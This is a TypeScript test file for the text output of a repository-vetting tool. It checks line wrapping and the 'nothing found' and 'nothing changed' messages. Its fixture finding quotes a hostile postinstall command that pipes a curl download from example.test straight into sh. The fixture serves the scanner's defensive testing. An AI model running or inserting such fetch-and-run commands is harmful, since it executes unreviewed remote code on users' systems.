import assert from "node:assert/strict";
import { Writable } from "node:stream";
import test from "node:test";
import type { Finding, VetReport } from "../../src/core/behaviour.ts";
import { Output } from "../../src/render/tty/output.ts";
import { comparisonText, vetText } from "../../src/render/repository-lines.ts";

/** Without colours, so that a line's length is its width. */
const narrow = (columns: number): Output =>
  new Output(Object.assign(new Writable(), { columns, isTTY: false }) as never);

const FINDING: Finding = {
  rule: "script.fetch-and-run",
  weight: "hostile",
  text: "a download is run automatically: curl -s https://example.test/a/long/way/to/go.sh | sh",
  path: "packages/one-with-a-long-name/package.json",
  by: ["npm run postinstall", "sh -c curl -s https://example.test/a/long/way/to/go.sh | sh"],
};

const report = (more: Partial<VetReport>): VetReport => ({
  verdict: "quiet",
  exit_code: 0,
  repository: {
    name: "https://example.test/some/where/far/away/and/long#v1",
    kind: "git",
    commit: "0".repeat(40),
    files: 3,
    bytes: 100,
  },
  findings: [],
  steps: [],
  granted: [],
  runtime: "the engine's own",
  unseen: ["no command of a known ecosystem was found; give your own: harness vet REPO -- CMD"],
  took_ms: 700,
  own_ms: 700,
  ...more,
});

test("no line is wider than the terminal, and nothing is lost", () => {
  for (const columns of [40, 60, 120]) {
    const text = vetText(report({ findings: [FINDING] }), narrow(columns));
    assert.deepEqual(
      text.split("\n").filter((line) => line.length > columns),
      [],
      text,
    );
    const words = text.replaceAll(/\s+/g, "");
    for (const part of [FINDING.text, FINDING.rule, FINDING.path ?? "", "nocommandwasrun"])
      assert.ok(words.includes(part.replaceAll(" ", "")), `${columns}: ${part}`);
  }
});

test("a report without findings and without a run says so, and how to run something", () => {
  const text = vetText(report({}), narrow(80));
  assert.match(text, /^QUIET {2}https/);
  assert.match(text, /\n\nNothing was found in its files\. None of them was run\.\n\n/);
  assert.match(text.replaceAll(/\s+/g, " "), /harness vet REPO -- CMD/);
  assert.doesNotMatch(vetText(report({ findings: [FINDING] }), narrow(80)), /Nothing was/);
});

test("a comparison without differences says so", () => {
  const one = report({});
  const same = { ...one, before: one, after: one, gone: [], changes: [] };
  assert.match(comparisonText(same, narrow(60)), /\n\nNothing has changed\.\n/);
  const other = { ...same, findings: [FINDING] };
  assert.doesNotMatch(comparisonText(other, narrow(60)), /Nothing has changed/);
});
